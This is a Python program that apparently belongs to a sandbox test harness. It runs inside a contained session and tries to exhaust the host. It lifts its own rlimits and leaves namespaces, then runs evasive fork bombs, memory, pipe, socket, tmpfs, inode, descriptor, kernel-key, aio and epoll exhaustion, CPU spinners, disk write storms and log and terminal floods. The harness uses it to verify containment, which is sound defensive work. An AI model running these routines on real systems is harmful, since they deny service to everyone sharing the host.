# Longer than 300 lines: sessions get it as one program, which finds nothing to import inside.
"""What a contained user runs to exhaust the host; support.attacks starts it inside a session as a program.

It first undoes what limits it, takes until the kernel refuses, says what it took and which error ended it
in one line of JSON, then holds it all and goes on trying until somebody ends the session.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import itertools
import json
import mmap
import os
import resource
import select
import signal
import socket
import sys
import time
from collections.abc import Callable, Iterable, Iterator

MIB = 1 << 20
_UNLIMITED = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
_NAMESPACES = (0x10000000, 0x00020000, 0x08000000, 0x20000000, 0x40000000, 0x02000000)
"""CLONE_NEWUSER, NEWNS, NEWIPC, NEWPID, NEWNET, NEWCGROUP: each would come with counters of its own."""
_SYS_ADD_KEY, _SYS_IO_SETUP = {"x86_64": (248, 206), "aarch64": (217, 0)}[os.uname().machine]
_SESSION_KEYRING, _F_SETPIPE_SZ = -3, 1031
_PAUSE_S = 0.01
_libc = ctypes.CDLL(None, use_errno=True)
_PLACES = ("/var/tmp", "/dev/shm", "/run", "/run/lock", "/tmp")
_held: list[object] = []
_PIECE = bytes(1 << 16)
_numbers = itertools.count(1)


def undo() -> None:
    """Try to get rid of every limit: raise it, or leave the namespaces that it is counted in."""
    for limit in range(16):
        with contextlib.suppress(ValueError, OSError):
            resource.setrlimit(limit, _UNLIMITED)
        with contextlib.suppress(ValueError, OSError):
            hard = resource.getrlimit(limit)[1]
            resource.setrlimit(limit, (hard, hard))
    for kind in _NAMESPACES:
        _libc.unshare(kind)
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, 0, -20)


def _checked(result: int) -> int:
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def _child(work: Callable[[], object]) -> int:
    child = os.fork()
    if child == 0:
        try:
            work()
            while True:
                signal.pause()
        finally:
            os._exit(0)
    return child


def fork_bomb() -> Iterator[int]:
    """Processes that do nothing but be there, each in a session of its own: no one signal reaches all."""
    while True:
        yield _child(os.setsid)


def bomb() -> Iterator[int]:
    """Processes that fork on and on, so that each that dies is replaced."""

    def fork_on() -> None:
        os.setsid()
        while True:
            with contextlib.suppress(OSError):
                if os.fork() == 0:
                    os.setsid()

    while True:
        yield _child(fork_on)


def heap() -> Iterator[int]:
    """Memory of the process, every page touched: in children, as one alone may be limited."""
    while True:
        room = mmap.mmap(-1, 64 * MIB)
        for place in range(0, 64 * MIB, 4096):
            room[place] = 1
        _held.append(room)
        yield 64


def memfd() -> Iterator[int]:
    """Files in memory that are on no file system that was mounted for the session."""
    while True:
        descriptor = os.memfd_create("attack")
        os.posix_fallocate(descriptor, 0, 16 * MIB)
        _held.append(descriptor)
        yield 16


def _fill(pair: Iterable[socket.socket]) -> None:
    """Send all that their buffers hold; nobody receives it."""
    for end in pair:
        with contextlib.suppress(OSError):
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
        end.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                end.send(_PIECE)


def unix_sockets() -> Iterator[int]:
    """What was sent and is never received."""
    while True:
        pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        _held.append(pair)
        _fill(pair)
        yield 1


def pipes() -> Iterator[int]:
    """Pipes, as big as they may be, full."""
    while True:
        reader, writer = os.pipe()
        _held.append((reader, writer))
        with contextlib.suppress(OSError):
            fcntl.fcntl(writer, _F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(writer, False)  # as it is called
        os.write(writer, bytes(1 << 20))
        yield 1


def tmpfs() -> Iterator[int]:
    """Everything that can be written to and is memory, one place after the other."""
    places = [place for place in _PLACES if os.access(place, os.W_OK)]
    while True:
        try:
            descriptor = os.open(f"{places[0]}/{next(_numbers)}", os.O_WRONLY | os.O_CREAT, 0o600)
            _held.append(descriptor)
            os.posix_fallocate(descriptor, 0, MIB)
        except OSError:
            if len(places) == 1:
                raise
            places.pop(0)
        else:
            yield 1


def inodes() -> Iterator[int]:
    """Empty files."""
    while True:
        os.mknod(f"/tmp/inode{next(_numbers)}", 0o100600)
        yield 1


def descriptors() -> Iterator[int]:
    """Open files."""
    while True:
        _held.append(os.open("/dev/null", os.O_RDONLY))
        yield 1


def ptys() -> Iterator[int]:
    """Terminals; in children too, where one process has no descriptors left."""
    while True:
        _held.append(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
        yield 1


def inotify() -> Iterator[int]:
    """Instances of inotify(7)."""
    while True:
        _held.append(_checked(_libc.inotify_init1(0)))
        yield 1


def inotify_watches() -> Iterator[int]:
    """Watches of inotify(7): each pins an inode."""
    instance = _checked(_libc.inotify_init1(0))
    while True:
        path = f"/tmp/watched{next(_numbers)}"
        os.mknod(path, 0o100600)
        _checked(_libc.inotify_add_watch(instance, path.encode(), 0xFFF))
        yield 1


def keys() -> Iterator[int]:
    """Keys of the kernel's (keyrings(7)), which are counted by user."""
    while True:
        name = f"attack{next(_numbers)}".encode()
        _checked(_libc.syscall(_SYS_ADD_KEY, b"user", name, b"x", ctypes.c_size_t(1), _SESSION_KEYRING))
        yield 1


def aio() -> Iterator[int]:
    """Slots for asynchronous input and output (io_setup(2)), of which the whole host has one pool."""
    while True:
        context = ctypes.c_ulong(0)
        _checked(_libc.syscall(_SYS_IO_SETUP, 4096, ctypes.byref(context)))
        _held.append(context)
        yield 4096


def epoll() -> Iterator[int]:
    """Watches of epoll(7): every descriptor in every set."""
    pipes = [os.pipe() for _ in range(64)]
    while True:
        watcher = select.epoll()
        _held.append(watcher)
        for pair in pipes:
            for descriptor in pair:
                watcher.register(descriptor)
        yield 2 * len(pipes)


def in_flight() -> Iterator[int]:
    """Descriptors that were sent and not received: they are open in no process (unix(7), SCM_RIGHTS)."""
    descriptor = os.open("/dev/null", os.O_RDONLY)
    while True:
        pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        _held.append(pair)
        pair[0].setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True:
                socket.send_fds(pair[0], [b"x"], [descriptor] * 250)
                yield 250


def loopback() -> Iterator[int]:
    """Connections over the loopback whose data nobody reads; the memory for it is the host's (tcp(7))."""
    server = socket.create_server(("127.0.0.1", 0), backlog=4096)
    _held.append(server)
    while True:
        near = socket.create_connection(server.getsockname())
        far, _ = server.accept()
        _held.append((near, far))
        _fill((near, far))
        yield 1


def shared_memory() -> Iterator[int]:
    """System V shared memory: it belongs to no process and no file system (shmget(2))."""
    address = _libc.shmat
    address.restype = ctypes.c_void_p
    while True:
        segment = _checked(_libc.shmget(0, ctypes.c_size_t(16 * MIB), 0o1600))
        place = address(segment, None, 0)
        ctypes.memset(place, 1, 16 * MIB)
        _libc.shmdt(ctypes.c_void_p(place))
        yield 16


def spinners() -> Iterator[int]:
    """Processes that compute, each in a session of its own: the kernel's autogroups are by session."""

    def spin() -> None:
        os.setsid()
        while True:
            pass

    while True:
        yield _child(spin)


def storm() -> Iterator[int]:
    """Writes that wait for the disk, from several processes, in the home."""

    def write() -> None:
        descriptor = os.open(os.path.expanduser(f"~/storm{os.getpid()}"), os.O_WRONLY | os.O_CREAT, 0o600)
        while True:
            os.pwrite(descriptor, bytes(1 << 16), 0)
            os.fsync(descriptor)

    while True:
        yield _child(write)


def log() -> Iterator[int]:
    """Lines for the host's log."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log_socket:
        log_socket.connect("/dev/log")
        while True:
            log_socket.send(b"<13>attack")
            yield 1


def terminal() -> Iterator[int]:
    """Output without end, once it has been said that it begins."""
    yield 1


def _flood() -> None:
    line = b"\x1b[31mflood\x1b[0m " * 1000 + b"\r\n"
    while True:
        os.write(1, line)


def dentries() -> Iterator[int]:
    """Names that do not exist, each of which the kernel remembers."""
    while True:
        with contextlib.suppress(FileNotFoundError):
            os.stat(f"/tmp/no-such-{next(_numbers)}")
        yield 1


AMOUNTS = ("heap", "memfd", "tmpfs", "shared_memory", "epoll", "in_flight", "aio")
"""The attacks that say how much each step took; the others take one thing a step."""


def _take(name: str, taking: Iterator[int], most: int) -> tuple[int, str]:
    """Take until refused; return how much, and the error's name, "" where the attack has had all it wants."""
    taken = 0
    try:
        for amount in taking:
            taken += amount if name in AMOUNTS else 1
            if taken >= most:
                break
    except MemoryError:
        return taken, "ENOMEM"
    except OSError as error:
        return taken, errno.errorcode[error.errno or 0]
    return taken, ""


def main() -> None:
    """The attack of this name (argument 1), which takes at most so much (argument 2)."""
    name, most = sys.argv[1], int(sys.argv[2])
    undo()
    attack: Callable[[], Iterator[int]] = globals()[name]
    taking = attack()
    taken, met = _take(name, taking, most)
    sys.stdout.write(json.dumps({"taken": taken, "met": met}) + "\n")
    sys.stdout.flush()
    if name == "terminal":
        _flood()
    while True:
        time.sleep(_PAUSE_S)
        if met:
            with contextlib.suppress(OSError, MemoryError):
                next(attack(), None)


if __name__ == "__main__":
    main()
